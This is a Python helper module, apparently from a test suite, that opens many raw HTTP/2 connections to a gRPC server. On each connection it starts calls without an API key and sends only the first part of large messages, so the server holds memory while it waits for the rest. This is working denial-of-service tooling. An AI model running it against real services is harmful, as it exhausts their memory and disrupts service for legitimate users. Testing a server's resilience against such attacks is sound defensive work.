"""Many raw HTTP/2 connections to a server, which hold as much of its memory as they can without an API key."""

import socket
import struct
from collections.abc import Iterator, Sequence
from contextlib import ExitStack, contextmanager, suppress

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, SETTINGS = 0, 1, 4
ACK, END_HEADERS = 1, 4
WINDOW_BYTES = 65_535
"""HTTP/2's first window of a connection and of each of its streams."""
FRAME_BYTES = 16_384


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    """Return an HTTP/2 frame."""
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def call_headers(stream: int, path: str) -> bytes:
    """Return the frame that starts a gRPC call without an API key; each header is literal, without compression."""
    headers = {
        ":method": "POST",
        ":scheme": "http",
        ":path": path,
        ":authority": "localhost",
        "te": "trailers",
        "content-type": "application/grpc",
    }
    block = b"".join(b"\0" + _text(name) + _text(value) for name, value in headers.items())
    return frame(HEADERS, END_HEADERS, stream, block)


def _text(value: str) -> bytes:
    return bytes([len(value)]) + value.encode()


def message_start(stream: int, size: int, sent: int) -> bytes:
    """Return the frames with the first bytes of a message of `size` bytes, so that the server waits for the rest."""
    data = b"\0" + struct.pack(">I", size) + bytes(sent)
    parts = (data[start : start + FRAME_BYTES] for start in range(0, len(data), FRAME_BYTES))
    return b"".join(frame(DATA, 0, stream, part) for part in parts)


@contextmanager
def connections(address: str, count: int) -> Iterator[list[socket.socket]]:
    """Open this many connections, and send the preface on each."""
    host, _, port = address.rpartition(":")
    with ExitStack() as stack:
        sockets = []
        for _ in range(count):
            peer = stack.enter_context(socket.create_connection((host, int(port)), timeout=10))
            peer.sendall(PREFACE + frame(SETTINGS, 0, 0, b"") + frame(SETTINGS, ACK, 0, b""))
            sockets.append(peer)
        yield sockets


def send(peers: Sequence[socket.socket], data: bytes) -> int:
    """Send the same bytes on each connection, as far as the server takes them; return the number of closed ones."""
    closed = 0
    for peer in peers:
        peer.settimeout(0.5)
        try:
            peer.sendall(data)
        except TimeoutError:
            continue
        except OSError:
            closed += 1
    return closed


def read_all(peers: Sequence[socket.socket]) -> None:
    """Read what the server has sent on each connection."""
    for peer in peers:
        peer.setblocking(False)
        with suppress(OSError):
            while peer.recv(65536):
                pass
